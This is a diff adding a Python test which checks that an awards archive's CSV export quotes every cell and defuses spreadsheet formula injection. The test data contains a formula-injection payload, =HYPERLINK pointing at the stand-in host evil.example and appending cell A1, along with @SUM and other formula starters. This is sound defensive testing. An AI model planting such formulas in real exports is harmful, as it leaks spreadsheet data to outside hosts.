@@ -362,5 +362,43 @@ def test_results_csv_cannot_carry_a_spreadsheet_formula(db, clock) -> None:  # t
     with db.read() as session:
         text = published.get_results(session=session, year=2012).as_csv()
     [row] = list(csv.DictReader(io.StringIO(text)))
-    assert row["title"] == "'=HYPERLINK(\"http://evil.example\",\"Click\")"
+    assert row["title"] == '\'=HYPERLINK("http://evil.example","Click")'
     assert row["organisation"] == "'@SUM(1+1)"
+
+
+def test_results_csv_quotes_every_cell_and_defuses_formulas_but_not_plus_attitude(
+    db, clock
+) -> None:  # type: ignore[no-untyped-def]
+    with db.write() as session:
+        edition = make_archived_edition(
+            session,
+            now=clock(),
+            year=2016,
+            title="+Attitude",
+            country="PT",
+            organisation="-2+3",
+            rank=1,
+        )
+        published.add_archive_entry(
+            session=session,
+            edition=edition,
+            award="nominated",
+            title='=HYPERLINK("http://evil.example/?"&A1)',
+            organisation="Jeunes; @SUM(A1:A9)",
+            country="FR",
+            actor=OFFICER,
+            now=clock(),
+        )
+    with db.read() as session:
+        text = published.get_results(session=session, year=2016).as_csv()
+    assert text.splitlines()[0] == ",".join(f'"{c}"' for c in published.CSV_COLUMNS)
+    for delimiter in (",", ";"):
+        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
+            for field in row:
+                start = field.lstrip(' "')
+                assert start[:1] not in {"=", "+", "-", "@"} or start.startswith("+Attitude")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert [(r["title"], r["organisation"]) for r in rows] == [
+        ("+Attitude", "'-2+3"),
+        ('\'=HYPERLINK("http://evil.example/?"&A1)', "Jeunes; '@SUM(A1:A9)"),
+    ]
